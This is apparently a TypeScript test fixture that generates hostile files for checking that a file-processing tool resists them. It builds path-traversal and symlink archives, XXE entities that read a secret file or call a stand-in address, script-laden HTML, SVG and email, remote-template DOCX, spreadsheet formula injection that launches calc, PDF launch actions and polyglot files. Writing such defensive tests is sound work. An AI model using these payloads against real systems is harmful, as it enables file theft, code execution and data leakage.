import { ar, cpio, oddZip, rar, tar } from '../../fixtures/make-archives.ts';
import { docx } from '../../fixtures/make-docx.ts';
import { assemble, twoPages } from '../../fixtures/make-pdf.ts';
import { zip } from '../../fixtures/make-zip.ts';
import { mail } from '../../support/mail.ts';
import { png, xlsx } from './bombs.ts';

export type TrapPlaces = {
  /** A file of this computer that nobody may come to read. */
  readonly secret: string;
  /** An address that nobody may come to ask. */
  readonly address: string;
  /** The name of files that may be written nowhere. */
  readonly slipped: string;
};

const relations = (...all: string[]): string =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all.join('')}</Relationships>`;

/** Paths that lead out of where an archive is unpacked. */
const outside = (slipped: string): readonly string[] => [
  `../../../../../../../../tmp/${slipped}`,
  `/tmp/${slipped}`,
  `..\\..\\..\\..\\tmp\\${slipped}`,
  `C:\\Windows\\Temp\\${slipped}`,
  `./../${slipped}`,
  `a/../../${slipped}`,
  `\\\\server\\share\\${slipped}`,
];

function slips({ slipped, secret }: TrapPlaces): Readonly<Record<string, Buffer>> {
  const paths = outside(slipped);
  const all = Object.fromEntries(paths.map(path => [path, `what ${path} holds`]));
  return {
    'slip.zip': oddZip(paths.map(name => ({ name, content: 'slipped out' }))),
    'links.zip': oddZip([
      { name: 'link', content: secret, mode: 0o120777 },
      { name: 'link/inside.txt', content: 'through the link' },
    ]),
    'slip.tar': tar([
      ...paths.map(name => ({ name, content: 'slipped out' })),
      { name: 'link', type: '2', link: secret },
      { name: 'hard', type: '1', link: secret },
      { name: 'link/inside.txt', content: 'through the link' },
      { name: 'device', type: '3' },
    ]),
    'slip.ar': ar({ [`../${slipped}`]: 'slipped out' }),
    'slip.cpio': cpio(all),
    'slip.rar': rar(all),
    'slip.eml': mail('Slip', ...paths.map(name => ({ name, content: 'slipped out' }))),
  };
}

function external({ secret, address }: TrapPlaces): Readonly<Record<string, Buffer>> {
  const file = `<!DOCTYPE a [<!ENTITY e SYSTEM "file://${secret}">]>`;
  const web = `<!DOCTYPE a SYSTEM "${address}/a.dtd" [<!ENTITY % p SYSTEM "${address}/p.dtd"> %p; <!ENTITY e SYSTEM "${address}/e">]>`;
  const both = (name: string, make: (doctype: string) => Buffer): [string, Buffer][] => [
    [`file ${name}`, make(file)],
    [`web ${name}`, make(web)],
  ];
  return Object.fromEntries([
    ...both('entity.xml', doctype => Buffer.from(`<?xml version="1.0"?>${doctype}<a>before &e; after</a>`)),
    ...both('entity.svg', doctype =>
      Buffer.from(
        `<?xml version="1.0"?>${doctype}<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&e;</text><image href="${address}/i.png"/></svg>`,
      ),
    ),
    ...both('entity.html', doctype => Buffer.from(`<?xml version="1.0"?>${doctype}<html><body>&e;</body></html>`)),
    ...both('entity.docx', doctype => docx('<w:p><w:r><w:t>&e;</w:t></w:r></w:p>', {}, doctype)),
    ...both('entity.xlsx', doctype => xlsx('<row><c t="inlineStr"><is><t>&e;</t></is></c></row>', '<sst/>', doctype)),
    ...both('entity.plist', doctype =>
      Buffer.from(`<?xml version="1.0"?>${doctype}<plist><dict><key>a</key><string>&e;</string></dict></plist>`),
    ),
  ]);
}

function scripts({ address, secret }: TrapPlaces): Readonly<Record<string, Buffer>> {
  const html = `<!doctype html><html><head><title>Scripts</title><base href="${address}/">
<meta http-equiv="refresh" content="0;url=${address}/refresh"><link rel="stylesheet" href="${address}/a.css">
<style>@import url("${address}/b.css"); body { background: url(${address}/c.png) }</style>
<script src="${address}/a.js"></script><script>fetch("${address}/x")</script></head>
<body onload="fetch('${address}/y')"><img src="${address}/i.png" onerror="alert(1)"><iframe src="file://${secret}"></iframe>
<svg onload="alert(1)"><script>alert(1)</script><a xlink:href="javascript:alert(1)">a</a></svg>
<a href="javascript:alert(1)">a</a><form action="${address}/f"><input autofocus onfocus=alert(1)></form>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><video src="${address}/v.mp4" autoplay></video>
<object data="${address}/o"></object><embed src="${address}/e"><img srcset="${address}/s.png 1x"><p style="background:url(${address}/d.png)">the words</p></body></html>`;
  const message = (type: string, body: string): Buffer =>
    Buffer.from(
      `From: a@example.org\nTo: b@example.org\nSubject: <script>alert(1)</script>\nMIME-Version: 1.0\nContent-Type: ${type}\n\n${body}\n`,
    );
  return {
    'scripts.html': Buffer.from(html),
    'scripts.eml': message('text/html; charset=utf-8', html),
    'scripts.mht': Buffer.from(
      `From: <Saved by Blink>\nSnapshot-Content-Location: ${address}/\nMIME-Version: 1.0\nContent-Type: multipart/related; type="text/html"; boundary="b"\n\n--b\nContent-Type: text/html; charset=utf-8\nContent-Location: ${address}/\n\n${html}\n--b--\n`,
    ),
    'elsewhere.eml': message(
      `message/external-body; access-type=URL; URL="${address}/body"`,
      'Content-Type: text/plain\n\n',
    ),
    'scripts.svg': Buffer.from(
      `<?xml version="1.0"?><?xml-stylesheet href="${address}/s.css"?><svg xmlns="http://www.w3.org/2000/svg" width="90" height="90" onload="alert(1)"><script>fetch("${address}/svg")</script><foreignObject><iframe src="${address}/f"/></foreignObject><image href="${address}/i.png" width="9" height="9"/><use href="${address}/u.svg#a"/><text>Plan</text></svg>`,
    ),
    'template.docx': docx(
      `<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDEPICTURE "${address}/p.png"</w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p><w:p><w:r><w:t>the words</w:t></w:r></w:p>`,
      {
        'word/_rels/document.xml.rels': relations(
          `<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${address}/t.dotm" TargetMode="External"/>`,
          `<Relationship Id="r8" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file://${secret}" TargetMode="External"/>`,
        ),
      },
    ),
    'formula.xlsx': xlsx(
      `<row><c><f>WEBSERVICE("${address}/w")</f><v>1</v></c><c t="inlineStr"><is><t>=cmd|' /C calc'!A0</t></is></c></row>`,
    ),
    'formula.csv': Buffer.from(`name,link\n"=HYPERLINK(""${address}/h"")","=cmd|' /C calc'!A0"\n`),
    'field.rtf': Buffer.from(`{\\rtf1 {\\field{\\*\\fldinst INCLUDEPICTURE "${address}/r.png"}{\\fldrslt words}}}`),
    'actions.pdf': assemble(
      [
        {
          dictionary: `/Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (${address}/open) >> /AA << /WC << /S /JavaScript /JS (app.launchURL\\("${address}/js"\\)) >> >>`,
        },
        { dictionary: '/Type /Pages /Kids [3 0 R] /Count 1' },
        {
          dictionary: `/Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /AA << /O << /S /Launch /F (${secret}) >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F << /FS /URL /F (${address}/remote.pdf) >> >> >>]`,
        },
      ],
      '/Root 1 0 R',
    ),
    'site.url': Buffer.from(`[InternetShortcut]\r\nURL=${address}/link\r\nIconFile=\\\\server\\share\\i.ico\r\n`),
  };
}

/** Files that are two things at once. */
function polyglots(): Readonly<Record<string, Buffer>> {
  const archive = zip({ 'inside.txt': 'hidden in a polyglot' });
  const page = '<!doctype html><script>alert(1)</script><p>the words</p>';
  return {
    'pdf and zip.pdf': Buffer.concat([twoPages(), archive]),
    'zip and pdf.zip': oddZip([{ name: 'a.pdf', content: twoPages(), method: 0 }]),
    'png and zip.png': Buffer.concat([png(8, 8, 8), archive]),
    'gif and script.gif': Buffer.from(`GIF89a/*${'\0'.repeat(50)}*/=1;alert(1)//<script>alert(1)</script>`),
    'html and pdf.html': Buffer.concat([Buffer.from(page), twoPages()]),
    'html and zip.html': Buffer.concat([Buffer.from(page), archive]),
    'mbox and html.mbox': Buffer.from(
      `From a@example.org Tue Mar  5 09:30:00 2019\nFrom: a@example.org\nSubject: x\nContent-Type: text/html\n\n${page}\n`,
    ),
    'pdf that says it is text.txt': twoPages(),
    'program.exe.pdf': Buffer.from(`MZ${'\0'.repeat(200)}This program cannot be run in DOS mode.`),
  };
}

/** Files that would write, read or ask where they must not. */
export const traps = (places: TrapPlaces): Readonly<Record<string, Buffer>> => ({
  ...slips(places),
  ...external(places),
  ...scripts(places),
  ...polyglots(),
});
